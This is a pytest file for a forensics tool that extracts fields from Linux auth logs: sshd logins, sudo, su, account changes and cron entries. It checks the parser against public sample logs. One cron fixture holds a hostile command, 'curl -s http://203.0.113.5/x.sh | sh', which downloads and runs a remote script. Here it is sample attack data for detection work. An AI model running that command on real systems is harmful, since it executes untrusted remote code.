"""Auth-log field extraction: sshd, PAM, sudo, su, shadow-utils, cron."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from forensics.ingest.base import InputFile, ParseContext, Reject, Row
from forensics.ingest.linux_auth import extract, is_auth
from forensics.ingest.syslog import SyslogParser

AUTH = "edr-fixtures/elastic-integrations/packages/system/data_stream/auth/_dev/test/pipeline"


@pytest.mark.parametrize(
    ("program", "message", "expected"),
    [
        (
            "sshd",
            "Accepted publickey for vagrant from 10.0.2.2 port 52059 ssh2: RSA SHA256:abc",
            {
                "action": "accepted",
                "user_name": "vagrant",
                "src_ip": "10.0.2.2",
                "src_port": 52059,
                "method": "publickey",
                "auth_result": "success",
                "key_info": "RSA SHA256:abc",
            },
        ),
        (
            "sshd",
            "Failed password for invalid user admin from 183.62.140.253 port 47276 ssh2",
            {
                "action": "failed",
                "user_name": "admin",
                "invalid_user": "true",
                "src_ip": "183.62.140.253",
                "src_port": 47276,
                "method": "password",
                "auth_result": "failure",
            },
        ),
        (
            "sshd",
            "Invalid user webmaster from 173.234.31.186",
            {
                "action": "invalid_user",
                "user_name": "webmaster",
                "src_ip": "173.234.31.186",
                "auth_result": "failure",
            },
        ),
        (
            "sshd",
            "Received disconnect from 139.59.209.18: 11: Bye Bye [preauth]",
            {
                "action": "disconnect",
                "src_ip": "139.59.209.18",
                "code": "11",
                "reason": "Bye Bye",
                "preauth": "true",
            },
        ),
        (
            "sshd",
            "Disconnected from invalid user oracle 10.9.8.7 port 4242 [preauth]",
            {
                "action": "disconnect",
                "user_name": "oracle",
                "src_ip": "10.9.8.7",
                "src_port": 4242,
                "preauth": "true",
            },
        ),
        (
            "sshd",
            "Connection closed by 5.188.10.180 [preauth]",
            {"action": "connection_closed", "src_ip": "5.188.10.180", "preauth": "true"},
        ),
        (
            "sshd",
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=112.95.230.3  user=root",
            {
                "action": "auth_failure",
                "pam_service": "sshd",
                "user_name": "root",
                "src_ip": "112.95.230.3",
                "auth_result": "failure",
            },
        ),
        (
            "sudo",
            "  vagrant : TTY=pts/0 ; PWD=/home/vagrant ; USER=root ; COMMAND=/usr/bin/apt-get install nginx",
            {
                "action": "sudo_command",
                "user_name": "vagrant",
                "target_user": "root",
                "tty": "pts/0",
                "pwd": "/home/vagrant",
                "command": "/usr/bin/apt-get install nginx",
                "process_cmdline": "/usr/bin/apt-get install nginx",
                "auth_result": "success",
            },
        ),
        (
            "sudo",
            "     tsg : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls",
            {
                "action": "sudo_command",
                "user_name": "tsg",
                "sudo_error": "user NOT in sudoers",
                "auth_result": "failure",
            },
        ),
        (
            "su",
            "FAILED su for root by mallory",
            {"action": "su", "user_name": "mallory", "target_user": "root", "auth_result": "failure"},
        ),
        (
            "useradd",
            "new user: name=baduser, UID=1002, GID=1002, home=/home/baduser, shell=/bin/bash, from=/dev/pts/1",
            {
                "action": "new_user",
                "user_name": "baduser",
                "target_user": "baduser",
                "uid": "1002",
                "gid": "1002",
                "home": "/home/baduser",
                "shell": "/bin/bash",
                "tty": "/dev/pts/1",
            },
        ),
        (
            "usermod",
            "add 'baduser2' to group 'sudo'",
            {"action": "add_to_group", "user_name": "baduser2", "target_user": "baduser2", "group": "sudo"},
        ),
        (
            "groupadd",
            "new group: name=tsg, GID=1003",
            {"action": "new_group", "group": "tsg", "gid": "1003"},
        ),
        ("userdel", "delete user 'testuser'", {"action": "delete_user", "user_name": "testuser"}),
        (
            "CRON",
            "(root) CMD (curl -s http://203.0.113.5/x.sh | sh)",
            {
                "action": "cron_command",
                "user_name": "root",
                "command": "curl -s http://203.0.113.5/x.sh | sh",
            },
        ),
    ],
)
def test_extract(program: str, message: str, expected: dict[str, object]) -> None:
    """Each message kind gives the fields hunts filter on."""
    got = extract(program, message)
    for key, value in expected.items():
        assert got.get(key) == value, key


def test_unknown_message_gives_nothing() -> None:
    assert extract("sshd", "Server has rebooted, all is well") == {}
    assert extract("nginx", "GET / 200") == {}


def test_auth_channel_membership() -> None:
    assert (
        is_auth("sshd", "anything")
        and is_auth("/usr/sbin/sshd", "x")
        and is_auth("CRON", "pam_unix(cron:session): ...")
    )
    assert not is_auth("CRON", "(root) CMD (true)") and not is_auth("systemd", "Started x")


def _parse(path: Path) -> list[Row | Reject]:
    data = path.read_bytes()
    src = InputFile(
        str(path),
        None,
        path,
        len(data),
        hashlib.sha256(data).hexdigest(),
        hashlib.md5(data).hexdigest(),
        data[:4096],
    )
    return list(SyslogParser().parse(src, ParseContext(reference_year=2017)))


def test_ubuntu_auth_log_rows(shared_data: Path) -> None:
    """A real auth.log: every line a row in channel auth, with the account changes and sudo commands."""
    items = _parse(shared_data / AUTH / "test-auth-ubuntu1204.log")
    rows = [i for i in items if not isinstance(i, Reject)]
    assert len(rows) == 122 and len(items) == 122
    assert {r["channel"] for r in rows} == {"auth"}
    new_user = [r for r in rows if r.get("action") == "new_user"]
    assert [(r["user_name"], r["uid"], r["host"]) for r in new_user] == [
        ("tsg", "1001", "precise32"),
        ("mysql", "106", "precise32"),
    ]
    denied = [r for r in rows if r.get("sudo_error")]
    assert [r["sudo_error"] for r in denied] == ["3 incorrect password attempts", "user NOT in sudoers"]
    accepted = [r for r in rows if r.get("action") == "accepted"]
    assert accepted and all(r["src_ip"] == "10.0.2.2" and r["provider"] == "sshd" for r in accepted)


def test_loghub_brute_force_fields(shared_data: Path) -> None:
    """The OpenSSH brute force: failed passwords carry user, source address and port."""
    items = _parse(shared_data / "loghub/OpenSSH/OpenSSH_2k.log")
    rows = [i for i in items if not isinstance(i, Reject)]
    failed = [r for r in rows if r.get("action") == "failed"]
    assert len(failed) >= 500
    assert all(r["src_ip"] and r["src_port"] and r["user_name"] is not None for r in failed)
    top = max({r["src_ip"] for r in failed}, key=lambda ip: sum(1 for r in failed if r["src_ip"] == ip))
    assert top == "183.62.140.253"


def test_sentinel_syslog_csv(shared_data: Path) -> None:
    """The Log Analytics Syslog-table export of authpriv account changes: one row per CSV record."""
    from forensics.ingest.registry import sniff
    from forensics.ingest.syslog import SentinelSyslogCsvParser

    path = (
        shared_data
        / "edr-fixtures/azure-sentinel/Sample Data/ASIM/Linux_Authpriv_UserManagement_IngestedLogs.csv"
    )
    data = path.read_bytes()
    found = sniff(data[:65536], path.name)
    assert found is not None and found.name == "sentinel_syslog"
    src = InputFile(
        str(path),
        None,
        path,
        len(data),
        hashlib.sha256(data).hexdigest(),
        hashlib.md5(data).hexdigest(),
        data[:4096],
    )
    items = list(SentinelSyslogCsvParser().parse(src, ParseContext()))
    rows = [i for i in items if not isinstance(i, Reject)]
    assert len(items) == len(rows) == 49
    assert {r["channel"] for r in rows} == {"auth"} and {r["host"].lower() for r in rows} == {"zabbix"}
    first = rows[0]
    assert (
        first["ts_raw"] == "7/28/2023, 8:07:14.552 PM"
        and first["ts"].isoformat() == "2023-07-28T20:07:14.552000+00:00"
    )
    sudo_add = [r for r in rows if r.get("action") == "add_to_group" and r.get("group") == "sudo"]
    assert sudo_add and sudo_add[0]["user_name"] == "baduser2" and sudo_add[0]["provider"] == "usermod"
    assert any(r.get("action") == "new_user" and r["user_name"] == "BadUser" for r in rows)


def test_ingest_paths_auth_sources_in_case(shared_data: Path, tmp_path: Path) -> None:
    """Through the runner: the Ubuntu auth.log and the Sentinel CSV reconcile in the case's tables."""
    from forensics.ingest.runner import ingest_paths
    from forensics.store import Case

    sources = [
        shared_data / AUTH / "test-auth-ubuntu1204.log",
        shared_data
        / "edr-fixtures/azure-sentinel/Sample Data/ASIM/Linux_Authpriv_UserManagement_IngestedLogs.csv",
    ]
    ingest_paths(tmp_path / "case", sources, ParseContext(reference_year=2017), workers=1)
    with Case.open(tmp_path / "case", read_only=True) as case:
        got = case.con.execute(
            "SELECT i.parser, i.rows, i.rejects, (SELECT count(*) FROM events e WHERE e.input_sha256 = i.sha256) "
            "FROM inputs i ORDER BY i.parser"
        ).fetchall()
        useradds = case.con.execute(
            "SELECT count(*) FROM events WHERE channel = 'auth' AND action = 'new_user'"
        ).fetchone()[0]
    assert got == [("sentinel_syslog", 49, 0, 49), ("syslog", 122, 0, 122)]
    assert useradds == 2 + 4
